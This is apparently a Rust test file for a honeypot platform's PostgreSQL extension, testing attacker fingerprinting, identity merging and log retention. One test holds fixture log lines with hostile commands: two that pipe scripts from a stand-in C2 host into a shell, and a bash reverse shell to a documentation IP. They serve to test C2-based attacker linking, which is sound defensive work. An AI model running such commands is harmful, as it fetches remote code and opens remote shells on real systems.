        "hassh" => ("hassh_fingerprint", "hassh_server_hash"),
        "jarm" => ("jarm_fingerprint", "jarm_hash"),
        _ => ("tcpfp_fingerprint", "tcpfp_hash"),
    };
    format!(r#"('<134>1 {ts} decnet-prober prober - {event} [relay@55555 target_ip="{ip}" target_port="{port}" {field}="{hash}"]')"#)
}

fn insert(rows: &[String]) {
    Spi::run(&format!("INSERT INTO decnet.logs (raw_line) VALUES {}", rows.join(","))).unwrap();
}

// cases 6.7: first sighting, unchanged, rotated, independent triples, idempotent replay
#[pg_test]
fn fingerprint_rotation_cases() {
    migrate();
    let t0 = "2026-05-03T12:00:00+00:00";
    insert(&[probe(t0, "1.2.3.4", 22, "hassh", "hash-1")]);
    let st = Spi::get_three::<String, i32, i64>("SELECT last_hash, rotation_count, observation_count FROM decnet.fingerprint_state").unwrap();
    assert_eq!(st, (Some("hash-1".into()), Some(0), Some(1)), "first sighting");
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.fingerprint_rotations"), Some(0));
    let a = Spi::get_two::<i32, TimestampWithTimeZone>("SELECT rotation_count, last_rotation_at FROM decnet.attackers WHERE ip = '1.2.3.4'").unwrap();
    assert_eq!(a, (Some(0), None));
    insert(&[probe("2026-05-03T12:10:00+00:00", "1.2.3.4", 22, "hassh", "hash-1")]);
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.fingerprint_rotations"), Some(0), "unchanged");
    assert_eq!(one::<bool>("SELECT last_seen = '2026-05-03 12:10:00+00' FROM decnet.fingerprint_state"), Some(true));
    insert(&[probe("2026-05-03T13:00:00+00:00", "1.2.3.4", 22, "hassh", "hash-2")]);
    let r = Spi::get_three::<String, String, bool>("SELECT old_hash, new_hash, rotated_at = '2026-05-03 13:00:00+00' FROM decnet.fingerprint_rotations").unwrap();
    assert_eq!(r, (Some("hash-1".into()), Some("hash-2".into()), Some(true)));
    let a = Spi::get_two::<i32, bool>("SELECT rotation_count, last_rotation_at = '2026-05-03 13:00:00+00' FROM decnet.attackers WHERE ip = '1.2.3.4'").unwrap();
    assert_eq!(a, (Some(1), Some(true)));
    // jarm/hassh/tcpfp on one port, and two ports: independent triples; h1 → h2 → h3 in one statement
    insert(&[
        probe(t0, "1.2.3.4", 22, "jarm", "j1"),
        probe(t0, "1.2.3.4", 22, "tcpfp", "t1"),
        probe(t0, "1.2.3.4", 2222, "hassh", "h1"),
        probe("2026-05-03T12:01:00+00:00", "1.2.3.4", 2222, "hassh", "h2"),
        probe("2026-05-03T12:02:00+00:00", "1.2.3.4", 2222, "hassh", "h3"),
        probe(t0, "1.2.3.4", 443, "jarm", ""), // an empty JARM is no result
    ]);
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.fingerprint_state"), Some(4));
    let st = Spi::get_two::<String, i32>("SELECT last_hash, rotation_count FROM decnet.fingerprint_state WHERE port = 2222").unwrap();
    assert_eq!(st, (Some("h3".into()), Some(2)));
    assert_eq!(one::<i32>("SELECT rotation_count FROM decnet.attackers WHERE ip = '1.2.3.4'"), Some(3));
    // replaying everything (late lines: recomputed) adds nothing
    let all: Vec<String> = [
        probe(t0, "1.2.3.4", 22, "hassh", "hash-1"),
        probe("2026-05-03T12:10:00+00:00", "1.2.3.4", 22, "hassh", "hash-1"),
        probe("2026-05-03T13:00:00+00:00", "1.2.3.4", 22, "hassh", "hash-2"),
        probe("2026-05-03T12:01:00+00:00", "1.2.3.4", 2222, "hassh", "h2"),
    ]
    .to_vec();
    insert(&all);
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.fingerprint_rotations"), Some(3));
    assert_eq!(one::<i32>("SELECT rotation_count FROM decnet.attackers WHERE ip = '1.2.3.4'"), Some(3));
    // a late observation in between does rotate: h1 @12:00, x @12:00:30 (late), h2 @12:01, h3 @12:02
    insert(&[probe("2026-05-03T12:00:30+00:00", "1.2.3.4", 2222, "hassh", "x")]);
    assert_eq!(
        one::<String>("SELECT string_agg(old_hash || '>' || new_hash, ' ' ORDER BY rotated_at) FROM decnet.fingerprint_rotations WHERE port = 2222"),
        Some("h1>x x>h2 h2>h3".into())
    );
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
}

// cases 6.5 and G.6 storage: EUI-64 / stable-privacy leaks on the attacker and its five columns
#[pg_test]
fn ipv6_leaks_fill_the_attacker() {
    migrate();
    assert_eq!(one::<String>("SELECT decnet.ipv6_iid_kind('fe80::aabb:ccff:fedd:eeff')"), Some("eui64".into()));
    assert_eq!(one::<String>("SELECT decnet.ipv6_mac_oui('fe80::aabb:ccff:fedd:eeff')"), Some("a8:bb:cc".into()));
    assert_eq!(one::<String>("SELECT decnet.ipv6_iid_kind('fe80::1234:5678:9abc:def0')"), Some("stable_privacy".into()));
    assert_eq!(one::<String>("SELECT decnet.ipv6_mac_oui('fe80::1234:5678:9abc:def0')"), None);
    let leak = |ts: &str, src: &str, v4: &str| {
        format!(r#"('<134>1 {ts} decky-01 sniffer - ipv6_link_local_leak [relay@55555 src_ip="{src}" dst_ip="fe80::1" iid_kind="eui64" mac_oui="a8:bb:cc" on_iface="eth0" attacker_v4="{v4}" observed_at="{ts}"]')"#)
    };
    insert(&[
        leak("2026-05-01T00:00:01+00:00", "fe80::aabb:ccff:fedd:eeff", ""),
        leak("2026-05-01T00:00:05+00:00", "fe80::aabb:ccff:fedd:eeff", "10.0.0.9"),
        leak("2026-05-01T00:00:03+00:00", "2001:db8::1", ""), // a global source is no leak
    ]);
    let a = Spi::get_three::<i64, String, String>(
        "SELECT ipv6_leak_count, last_ipv6_iid_kind, last_ipv6_mac_oui FROM decnet.attackers WHERE ip = 'fe80::aabb:ccff:fedd:eeff'",
    )
    .unwrap();
    assert_eq!(a, (Some(2), Some("eui64".into()), Some("a8:bb:cc".into())));
    assert_eq!(one::<bool>("SELECT last_ipv6_leak_at = '2026-05-01 00:00:05+00' AND last_ipv6_link_local = 'fe80::aabb:ccff:fedd:eeff' FROM decnet.attackers WHERE ip = 'fe80::aabb:ccff:fedd:eeff'"), Some(true));
    assert_eq!(one::<String>("SELECT mac || ' ' || attacker_v4::text FROM decnet.attacker_ipv6_leaks"), Some("a8:bb:cc:dd:ee:ff {10.0.0.9}".into()));
    assert_eq!(one::<i64>("SELECT ipv6_leak_count FROM decnet.attackers WHERE ip = '2001:db8::1'"), Some(0));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
}

// G.4 / K.2: two addresses sharing a HASSH are one identity; merges are soft and followed
#[pg_test]
fn shared_hassh_makes_one_identity() {
    migrate();
    insert(&[
        probe("2026-05-01T00:00:00+00:00", "7.7.7.1", 22, "hassh", "hassh-shared"),
        probe("2026-05-01T00:00:00+00:00", "7.7.7.3", 22, "hassh", "hassh-other"),
    ]);
    Spi::run("SELECT * FROM decnet.rollup()").unwrap();
    let first = one::<pgrx::Uuid>("SELECT decnet.identity_of('7.7.7.1')").expect("identity");
    assert_ne!(Some(first), one::<pgrx::Uuid>("SELECT decnet.identity_of('7.7.7.3')"));
    insert(&[probe("2026-05-01T01:00:00+00:00", "7.7.7.2", 22, "hassh", "hassh-shared")]);
    Spi::run("SELECT * FROM decnet.rollup()").unwrap();
    assert_eq!(one::<pgrx::Uuid>("SELECT decnet.identity_of('7.7.7.2')"), Some(first), "joins the existing identity");
    let i = Spi::get_two::<i32, Vec<String>>(&format!("SELECT member_count, hassh_hashes FROM decnet.attacker_identities WHERE uuid = '{first}'")).unwrap();
    assert_eq!(i, (Some(2), Some(vec!["hassh-shared".to_string()])));
    assert_eq!(one::<Vec<String>>(&format!("SELECT ja3_hashes FROM decnet.attacker_identities WHERE uuid = '{first}'")), None, "no JA3: NULL, not empty");
    // 7.7.7.3 then shows the shared hash too: two identities merge, the smallest uuid wins
    let third = one::<pgrx::Uuid>("SELECT decnet.identity_of('7.7.7.3')").unwrap();
    insert(&[probe("2026-05-01T02:00:00+00:00", "7.7.7.3", 2222, "hassh", "hassh-shared")]);
    Spi::run("SELECT * FROM decnet.rollup()").unwrap();
    let winner = one::<pgrx::Uuid>("SELECT decnet.identity_of('7.7.7.1')").unwrap();
    assert_eq!(one::<pgrx::Uuid>("SELECT decnet.identity_of('7.7.7.3')"), Some(winner));
    assert_eq!(winner.to_string(), std::cmp::min(first.to_string(), third.to_string()));
    let loser = if winner == first { third } else { first };
    assert_eq!(one::<pgrx::Uuid>(&format!("SELECT decnet.resolve_identity('{loser}')")), Some(winner), "lookups follow merged_into");
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.identity_summary WHERE member_count = 3"), Some(1));
    // the full pass agrees and keeps the id
    Spi::run("SELECT * FROM decnet.recluster_identities()").unwrap();
    assert_eq!(one::<pgrx::Uuid>("SELECT decnet.identity_of('7.7.7.2')"), Some(winner));
}

#[pg_test]
fn fingerprint_summary_sql() {
    let s = one::<pgrx::JsonB>(r#"SELECT decnet.fingerprint_summary('[{"bounty_type":"fingerprint","payload":{"fingerprint_type":"ja3","ja3":"b"}},{"payload":{"fingerprint_type":"ja3","ja3":"a"}}]')"#).unwrap();
    assert_eq!(s.0["ja3_hashes"], serde_json::json!(["a", "b"]));
    assert_eq!(s.0["hassh_hashes"], serde_json::Value::Null);
    assert_eq!(one::<bool>(r#"SELECT decnet.identity_edge('{"fingerprints":["hassh:x"]}', '{"fingerprints":["hassh:x"]}')"#), Some(true));
    assert_eq!(one::<bool>(r#"SELECT decnet.identity_edge('{"asn":1}', '{"asn":1}')"#), Some(false));
    assert_eq!(one::<String>("SELECT string_agg(node || '=' || component, ' ' ORDER BY node) FROM decnet.connected_components(ARRAY['b','c','x'], ARRAY['a','b','x'])"), Some("a=a b=a c=a x=x".into()));
}

// issue 9: the operator's one-row summary
#[pg_test]
fn stats_counts_what_is_stored_and_pending() {
    migrate();
    insert(&[
        probe("2026-05-01T00:00:00+00:00", "8.8.4.4", 22, "hassh", "h"),
        "('not a syslog line')".to_string(),
        r#"('<134>1 2026-05-01T00:00:01+00:00 decky-01 ssh - connection [relay@55555 src_ip="9.9.9.9"]')"#.to_string(),
    ]);
    let r = Spi::get_three::<i64, i64, i64>("SELECT lines_ingested, lines_flagged, attackers FROM decnet.stats()").unwrap();
    assert_eq!(r, (Some(3), Some(1), Some(2)));
    let r = Spi::get_three::<i64, i64, bool>("SELECT dirty_backlog, ptr_backlog, last_rollup_at IS NULL FROM decnet.stats()").unwrap();
    assert_eq!(r, (Some(2), Some(2), Some(true)));
    // a mark keeps the time it was first set: a new line does not hide a wait
    Spi::run("UPDATE decnet.dirty_attackers SET marked_at = now() - interval '5 minutes' WHERE ip = '9.9.9.9'").unwrap();
    insert(&[r#"('<134>1 2026-05-01T00:00:02+00:00 decky-01 ssh - connection [relay@55555 src_ip="9.9.9.9"]')"#.to_string()]);
    assert_eq!(one::<pgrx::datum::Interval>("SELECT oldest_dirty_age FROM decnet.stats()").map(|i| i.to_string()), Some("00:05:00".into()));
    Spi::run("SELECT * FROM decnet.rollup()").unwrap();
    let r = Spi::get_three::<i64, i64, bool>("SELECT dirty_backlog, identities, last_rollup_ms >= 0 FROM decnet.stats()").unwrap();
    assert_eq!(r, (Some(0), Some(2), Some(true)));
    assert_eq!(one::<bool>("SELECT oldest_dirty_age IS NULL FROM decnet.stats()"), Some(true));
    assert_eq!(one::<bool>("SELECT ingest_idle >= interval '0' AND NOT enrichment_stale FROM decnet.stats()"), Some(true));
}

// issue 9: retention by partition; far-past and far-future lines land in the default partition
#[pg_test]
fn retention_drops_partitions_and_keeps_derived_rows() {
    migrate();
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.log_partitions() WHERE NOT is_default"), Some(4), "this month and 3 ahead");
    assert_eq!(one::<i32>("SELECT decnet.create_log_partitions()"), Some(0), "idempotent");
    let line = |ip: &str| format!(r#"<134>1 2026-05-01T00:00:01+00:00 decky-01 ssh - connection [relay@55555 src_ip="{ip}"]"#);
    Spi::run(&format!(
        "INSERT INTO decnet.logs (raw_line, received_at) VALUES ('{}', '2020-01-10'), ('{}', now() + interval '10 years')",
        line("1.0.0.1"), line("1.0.0.2")
    ))
    .unwrap();
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.logs WHERE tableoid = 'decnet.logs_default'::regclass"), Some(2));
    // an old month with its own partition, lines of two attackers there, one of them also now
    Spi::run("CREATE TABLE decnet.logs_20210101 PARTITION OF decnet.logs FOR VALUES FROM ('2021-01-01') TO ('2021-02-01')").unwrap();
    Spi::run(&format!(
        "INSERT INTO decnet.logs (raw_line, received_at) VALUES ('{}', '2021-01-05'), ('{}', '2021-01-06'), ('not syslog', '2021-01-07')",
        line("2.0.0.1"), line("2.0.0.2")
    ))
    .unwrap();
    insert(&[format!("('{}')", line("2.0.0.2")), format!("('{}')", line("3.0.0.3"))]);
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
    let before = one::<String>("SELECT string_agg(host(ip) || ':' || event_count, ' ' ORDER BY ip) FROM decnet.attackers");

    let dropped = Spi::get_two::<String, i64>("SELECT partition_name, lines FROM decnet.drop_logs_before('2021-06-01')").unwrap();
    assert_eq!(dropped, (Some("logs_20210101".into()), Some(3)));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.logs"), Some(4));
    assert_eq!(one::<String>("SELECT string_agg(host(ip) || ':' || event_count, ' ' ORDER BY ip) FROM decnet.attackers"), before, "derived rows stay");
    assert_eq!(one::<String>("SELECT string_agg(host(ip), ' ' ORDER BY ip) FROM decnet.truncated_attackers"), Some("2.0.0.1 2.0.0.2".into()));
    // verify() still compares everyone else, and still finds a corrupted row of theirs
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
    Spi::run("UPDATE decnet.attackers SET event_count = 99 WHERE ip = '3.0.0.3'").unwrap();
    assert_eq!(one::<String>("SELECT row_key->>'ip' FROM decnet.verify()"), Some("3.0.0.3".into()));
    // rebuild() refuses to forget the dropped history
    Spi::run(
        "DO $$ BEGIN PERFORM * FROM decnet.rebuild(); RAISE EXCEPTION 'rebuild() ran';
         EXCEPTION WHEN object_not_in_prerequisite_state THEN NULL; END $$",
    )
    .unwrap();
    // nothing else goes: a cutoff before every partition drops nothing
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.drop_logs_before('2000-01-01')"), Some(0));
}

// G.4 high tier: a shared C2 server links two addresses, unless their fingerprints all disagree (the veto)
#[pg_test]
fn shared_c2_links_unless_vetoed() {
    migrate();
    let cmd = |ip: &str, c: &str| format!(r#"('<134>1 2026-05-01T00:00:01+00:00 decky-01 bash - command [relay@55555 src_ip="{ip}" command="{c}"]')"#);
    let hello = |ip: &str, ja3: &str| format!(r#"('<134>1 2026-05-01T00:00:02+00:00 decky-01 sniffer - tls_client_hello [relay@55555 src_ip="{ip}" dst_port="443" ja3="{ja3}"]')"#);
    insert(&[
        cmd("6.6.6.1", "wget http://c2.example/a.sh -O- | sh"),
        cmd("6.6.6.2", "curl -s http://C2.example:80/b.sh | bash"),
        cmd("6.6.7.1", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"),
        cmd("6.6.7.2", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"),
        hello("6.6.7.1", "ja3-one"),
        hello("6.6.7.2", "ja3-two"),
    ]);
    Spi::run("SELECT * FROM decnet.rollup()").unwrap();
    assert_eq!(one::<Vec<String>>("SELECT decnet.c2_endpoints('wget http://c2.example/a.sh')"), Some(vec!["c2.example:80".to_string()]));
    assert_eq!(one::<bool>("SELECT decnet.identity_of('6.6.6.1') = decnet.identity_of('6.6.6.2')"), Some(true));
    assert_eq!(one::<bool>("SELECT decnet.identity_of('6.6.7.1') = decnet.identity_of('6.6.7.2')"), Some(false), "different JA3s veto the shared C2");
}

/// The jsonb and inet datums ingest builds in place equal what jsonb_in and
/// inet_in make of the same values' text, byte for byte (jsonb key order
/// included: a misordered object would still print, but -> would miss keys).
#[pg_test]
fn datums_built_in_place_equal_the_parsed_ones() {
    use serde_json::json;
    let values = [
        json!({"zz": 1, "b": "x", "aaa": [1, 2.5, -3, null, true, false, "é\t\"q\\"], "a": {}, "": [], "é": {"k": {"n": 1e300}}}),
        json!({"fingerprint_type": "http_quirks", "order": ["Host", "User-Agent"], "stable_count": 2, "tool_guess": null}),
        json!([]),
        json!([{"b": 1, "a": 2}]),
        json!("scalar"),
        json!(12345678901234567_i64),
        json!(null),
    ];
    for v in &values {
        let built = crate::datum::jsonb_datum(v);
        let parsed = pgrx::JsonB(v.clone()).into_datum().unwrap();
        let same = unsafe { pgrx::direct_function_call::<bool>(pg_sys::jsonb_eq, &[Some(built), Some(parsed)]) };
        let bytes = |d: pg_sys::Datum| unsafe {
            let p = pg_sys::pg_detoast_datum_packed(d.cast_mut_ptr());
            pgrx::varlena_to_byte_slice(p).to_vec()
        };
        assert_eq!(same, Some(true), "{v}");
        assert_eq!(bytes(built), bytes(parsed), "{v}");
    }
    let fields = [(std::borrow::Cow::from("src_ip"), std::borrow::Cow::from("1.2.3.4")), ("a".into(), "b".into()), ("zz".into(), "\u{1}".into())];
    let built = crate::datum::jsonb_object_datum(&fields);
    let parsed = pgrx::JsonB(json!({"src_ip": "1.2.3.4", "a": "b", "zz": "\u{1}"})).into_datum().unwrap();
    assert_eq!(unsafe { pgrx::direct_function_call::<bool>(pg_sys::jsonb_eq, &[Some(built), Some(parsed)]) }, Some(true));
    for ip in ["203.0.113.7", "0.0.0.0", "2001:db8::1", "::ffff:1.2.3.4", "fe80::1"] {
        let built = crate::datum::inet_datum(ip.parse().unwrap());
        let parsed = pgrx::Inet(ip.into()).into_datum().unwrap();
        assert_eq!(unsafe { pgrx::direct_function_call::<bool>(pg_sys::network_eq, &[Some(built), Some(parsed)]) }, Some(true), "{ip}");
    }
}

/// V12 (correction #47) merges bounties stored under the old key (the whole
/// payload, path included) into one per fingerprint, first sighting first, and
/// brings their attackers' bounty_count and fingerprints along. The ingest of
/// this build already writes new keys, so the old ones are written by hand.
#[pg_test]
fn v12_merges_fingerprints_stored_per_request() {
    migrate_up_to(11);
    Spi::run(
        r#"INSERT INTO decnet.attackers (ip, bounty_count, fingerprints) VALUES ('203.0.113.9', 3, '[{}, {}, {}]');
           INSERT INTO decnet.bounties (bounty_type, attacker_ip, payload, payload_key, decky, service, first_seen, last_seen, first_log_id, seen_count)
           SELECT 'fingerprint', '203.0.113.9', p, sha256(convert_to(p::text, 'UTF8')), d, 'http', now(), now(), id, n
           FROM (VALUES ('{"fingerprint_type": "http_useragent", "value": "sqlmap/1.7", "method": "GET", "path": "/admin"}'::jsonb, 'decky-02', 20, 2),
                        ('{"fingerprint_type": "http_useragent", "value": "sqlmap/1.7", "method": "GET", "path": "/.env"}'::jsonb, 'decky-01', 10, 1)) v(p, d, id, n);
           INSERT INTO decnet.bounties (bounty_type, attacker_ip, payload, payload_key, decky, service, first_seen, last_seen, first_log_id, seen_count)
           SELECT 'fingerprint', '203.0.113.9', p, decnet.payload_key(p), 'decky-01', 'sniffer', now(), now(), 5, 4
           FROM (VALUES ('{"fingerprint_type": "ja3", "ja3": "abc", "dst_port": "443"}'::jsonb)) v(p);"#,
    )
    .unwrap();
    let ja3_id = one::<i64>("SELECT id FROM decnet.bounties WHERE fingerprint_type = 'ja3'");
    Spi::run(MIGRATIONS[11].1).expect("V12 applies");
    let ua = Spi::get_three::<String, String, i64>(
        "SELECT payload->>'path', decky, seen_count FROM decnet.bounties WHERE fingerprint_type = 'http_useragent'",
    )
    .unwrap();
    assert_eq!(ua, (Some("/.env".into()), Some("decky-01".into()), Some(3)), "one bounty: the first sighting, both counts");
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.bounties WHERE fingerprint_type = 'http_useragent'"), Some(1));
    assert_eq!(one::<bool>("SELECT bool_and(payload_key = decnet.payload_key(payload)) FROM decnet.bounties"), Some(true));
    assert_eq!(one::<i64>("SELECT id FROM decnet.bounties WHERE fingerprint_type = 'ja3'"), ja3_id, "a bounty whose key holds stays");
    let a = Spi::get_two::<i64, i32>("SELECT bounty_count, jsonb_array_length(fingerprints) FROM decnet.attackers WHERE ip = '203.0.113.9'").unwrap();
    assert_eq!(a, (Some(2), Some(2)));
    assert_eq!(one::<String>("SELECT fingerprints->0->>'fingerprint_type' FROM decnet.attackers WHERE ip = '203.0.113.9'"), Some("ja3".into()));
}

#[pg_test]
fn parse_reason_comment_lists_every_flag() {
    migrate();
    let comment = one::<String>(
        "SELECT col_description('decnet.logs'::regclass, (SELECT attnum FROM pg_attribute WHERE attrelid = 'decnet.logs'::regclass AND attname = 'parse_reason'))",
    )
    .unwrap();
    for flag in decnet_core::syslog::Flag::ALL {
        assert!(comment.contains(flag.code()), "{} missing from {comment}", flag.code());
    }
}

/// Issue 15: a JSON NUL in a header reaches the bounty as U+FFFD, and every
/// reader of the stored payload as text works (it failed with 22P05).
#[pg_test]
fn json_nul_in_a_header_is_readable_everywhere() {
    migrate();
    Spi::run(r#"INSERT INTO decnet.logs (raw_line) VALUES ('<134>1 2026-05-01T00:00:00+00:00 decky-06 http - request [relay@55555 method="GET" path="/" remote_addr="203.0.113.80" headers="{\"User-Agent\": \"curl/8\u0000evil\"}"]')"#).unwrap();
    assert_eq!(one::<String>("SELECT parse_reason FROM decnet.logs"), Some("json_nul".into()));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.bounties WHERE payload::text LIKE '%curl/8\u{fffd}evil%'"), Some(1));
    assert!(one::<i64>("SELECT count(*) FROM decnet.logs l, decnet.log_bounties(l.service, l.event_type, l.attacker_ip, l.fields) b").unwrap() >= 1);
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
}

/// A Rust panic inside a SQL function, for the test below (test schema only).
#[pg_extern]
fn panics_for_test() -> i32 {
    panic!("a bug in decnet")
}

/// Issue 15: an error reaches the user without a Rust backtrace, even where
/// the server runs with RUST_BACKTRACE set (as `cargo pgrx test` does).
#[pg_test]
fn errors_carry_no_backtrace() {
    use pgrx::pg_sys::panic::CaughtError;
    let (message, detail) = PgTryBuilder::new(|| {
        Spi::run("SELECT tests.panics_for_test()").unwrap();
        (String::new(), None)
    })
    .catch_others(|e| match e {
        CaughtError::PostgresError(r) | CaughtError::ErrorReport(r) => (r.message().to_owned(), r.detail().map(str::to_owned)),
        CaughtError::RustPanic { ereport, .. } => (ereport.message().to_owned(), ereport.detail().map(str::to_owned)),
    })
    .execute();
    assert!(message.contains("a bug in decnet"), "{message}");
    let detail = detail.unwrap_or_default();
    assert!(!detail.contains("backtrace") && !detail.contains("panicking.rs") && !detail.contains(" at /"), "{detail}");
}

/// Issue 16: small statements of one transaction merge once, at commit (here:
/// when the deferred trigger is set IMMEDIATE), and then every statement
/// merges at its end. Savepoints: tests/concurrency.rs (a real client).
#[pg_test]
fn small_statements_merge_once_per_transaction() {
    migrate_up_to(MIGRATIONS.len());
    Spi::run("SET CONSTRAINTS ALL DEFERRED").unwrap();
    let line = |ip: &str, s: u32| format!("('<134>1 2026-05-01T00:00:{s:02}+00:00 decky-01 ssh - connection [relay@55555 src_ip=\"{ip}\"]')");
    for s in 0..5 {
        Spi::run(&format!("INSERT INTO decnet.logs (raw_line) VALUES {}", line("203.0.113.100", s))).unwrap();
    }
    // not merged yet: the lines are stored, the profile waits for commit
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.logs"), Some(5));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.attackers"), Some(0));
    Spi::run(&format!("INSERT INTO decnet.logs (raw_line) VALUES {}", line("203.0.113.102", 11))).unwrap();
    let notes = one::<i64>("SELECT count(*) FROM decnet.notifications").unwrap();
    Spi::run("SET CONSTRAINTS ALL IMMEDIATE").unwrap();
    assert_eq!(one::<i64>("SELECT event_count FROM decnet.attackers WHERE ip = '203.0.113.100'"), Some(5));
    assert_eq!(one::<i64>("SELECT event_count FROM decnet.attackers WHERE ip = '203.0.113.102'"), Some(1));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.notifications").unwrap() - notes, 1, "one merge for six statements");
    assert_eq!(one::<i64>("SELECT (payload->>'rows')::bigint FROM decnet.notifications ORDER BY seq DESC LIMIT 1"), Some(6));
    // immediate from now on: each statement merges at its end
    Spi::run(&format!("INSERT INTO decnet.logs (raw_line) VALUES {}", line("203.0.113.103", 12))).unwrap();
    assert_eq!(one::<i64>("SELECT event_count FROM decnet.attackers WHERE ip = '203.0.113.103'"), Some(1));
    assert_eq!(one::<i64>("SELECT count(*) FROM decnet.verify()"), Some(0));
}

// issue 18: every table, view and column of schema decnet says what it is
#[pg_test(error = "programs has 1 elements but buckets has 2")]
fn family_buckets_rejects_ragged_arrays() {
    Spi::run("SELECT * FROM decnet.family_buckets(ARRAY['ssh'], ARRAY['scanned', 'noise'])").unwrap();
}

#[pg_test]
fn every_column_of_schema_decnet_has_a_comment() {
    migrate();
    let missing = one::<String>(
        "SELECT string_agg(c.relname || coalesce('.' || a.attname, ''), ', ' ORDER BY c.relname, a.attnum)
         FROM pg_class c
         LEFT JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped
                                 AND col_description(c.oid, a.attnum) IS NULL
         WHERE c.relnamespace = 'decnet'::regnamespace AND c.relkind IN ('r', 'p', 'v', 'm') AND NOT c.relispartition
           AND (a.attnum IS NOT NULL OR obj_description(c.oid, 'pg_class') IS NULL)",
    );
    assert_eq!(missing, None, "tables, views and columns without a COMMENT");
    let columns = one::<i64>(
        "SELECT count(*) FROM pg_class c JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped
         WHERE c.relnamespace = 'decnet'::regnamespace AND c.relkind IN ('r', 'p', 'v') AND NOT c.relispartition",
    );
    assert!(columns.unwrap() > 400, "the query sees the schema: {columns:?}");
}

/// Issue 19: the rollup hands behavior_details_of its lines as typed arrays in
/// any order; the details follow log id order (first-seen KEX lists), and
/// arrays of different lengths are refused.
#[pg_test]
fn behavior_details_of_reads_typed_arrays_in_log_id_order() {
    let kex = one::<pgrx::JsonB>(
        r#"SELECT decnet.behavior_details_of(ARRAY[9, 3, 5]::bigint[],
                  ARRAY['hassh_fingerprint', 'hassh_fingerprint', 'tcp_flow_timing'],
                  ARRAY['prober', 'prober', 'sniffer'], ARRAY[3, 1, 2]::bigint[],
                  ARRAY['{"kex_algorithms": "later"}', '{"kex_algorithms": "first"}', '{"retransmits": "4"}']::json[],
                  NULL, NULL)"#,
    )
    .unwrap()
    .0;
    assert_eq!(kex["kex_order_raw"], serde_json::json!(["first", "later"]));
    assert_eq!(kex["retransmit_count"], serde_json::json!(4));
}

#[pg_test(error = "log_ids has 2 elements but services has 1")]
fn behavior_details_of_refuses_arrays_of_different_lengths() {
    one::<pgrx::JsonB>(
        "SELECT decnet.behavior_details_of(ARRAY[1, 2]::bigint[], ARRAY['a', 'b'], ARRAY['s'],
                ARRAY[1, 2]::bigint[], ARRAY['{}', '{}']::json[], NULL, NULL)",
    );
}

/// Issue 19: every view of schema decnet has one live definition, in a file of
/// migrations/live/, and no unreleased numbered migration defines a view.
#[pg_test]
fn every_view_is_defined_once_in_the_live_files() {
    migrate();
    let views = one::<Vec<String>>(
        "SELECT array_agg(relname::text ORDER BY relname) FROM pg_class
         WHERE relnamespace = 'decnet'::regnamespace AND relkind = 'v'",
    )
    .unwrap();
    assert!(views.len() >= 18, "{views:?}");
    for view in &views {
        let head = format!("CREATE OR REPLACE VIEW decnet.{view} AS");
        let places: Vec<&str> = LIVE_DEFINITIONS
            .iter()
            .filter(|(_, sql)| sql.contains(&head))
            .map(|(file, _)| *file)
            .collect();
        assert_eq!(places.len(), 1, "{view} is defined in {places:?}");
    }
    let released = include_str!("../migrations/released.sha256");
    for (name, sql) in MIGRATIONS {
        let frozen = released.lines().any(|l| l.contains(&format!("  {name}__")));
        let defines_a_view = sql
            .lines()
            .filter(|l| !l.trim_start().starts_with("--"))
            .any(|l| l.to_uppercase().contains(" VIEW "));
        assert!(frozen || !defines_a_view, "{name} defines a view");
    }
}

#[pg_test]
fn csv_line_sql() {
    // NULL is an empty field; a formula is defused; a comma is quoted
    assert_eq!(
        one::<String>("SELECT decnet.csv_line(ARRAY['a', NULL, '=1+1', 'x,y'])"),
        Some("a,,'=1+1,\"x,y\"".into())
    );
}

/// Issue 19: the identity rules read typed observations. A shared HASSH links;
/// shared commands in one phase plus one rhythm link; the AS alone does not;
/// and the reasons name the signal.
#[pg_test]
fn identity_rules_read_typed_observations() {
    let edges = |a: &str, b: &str| {
        one::<i64>(&format!(
            "SELECT count(*) FROM decnet.identity_group_edges(ARRAY[1, 1]::bigint[], ARRAY['x', 'y'],
                    ARRAY[true, false], ARRAY['x', 'y'], ARRAY[{a}, {b}]::decnet.identity_observation[])"
        ))
    };
    let obs = |fps: &str, phases: &str, cmds: &str, asn: &str, kd: &str| {
        format!("ROW({fps}, '{{}}', '{{}}', {phases}, {cmds}, '{{}}', '{{}}', {asn}, {kd})::decnet.identity_observation")
    };
    let hassh = obs("ARRAY['hassh:h1']", "'{}'", "'{}'", "NULL", "NULL");
    let other = obs("ARRAY['hassh:h2']", "'{}'", "'{}'", "NULL", "NULL");
    let typist = obs("'{}'", "ARRAY['discovery', 'discovery']", "ARRAY['uname -a', 'id']", "NULL", r"'\x00ff00ff00ff00ff'::bytea");
    let as_only = obs("'{}'", "'{}'", "'{}'", "64500", "NULL");
    assert_eq!(edges(&hassh, &hassh), Some(1), "a shared HASSH is one actor");
    assert_eq!(edges(&hassh, &other), Some(0), "different HASSHes veto");
    assert_eq!(edges(&typist, &typist), Some(1), "commands of one phase and one rhythm");
    assert_eq!(edges(&as_only, &as_only), Some(0), "the AS alone links nobody");
    assert_eq!(
        one::<String>(&format!(
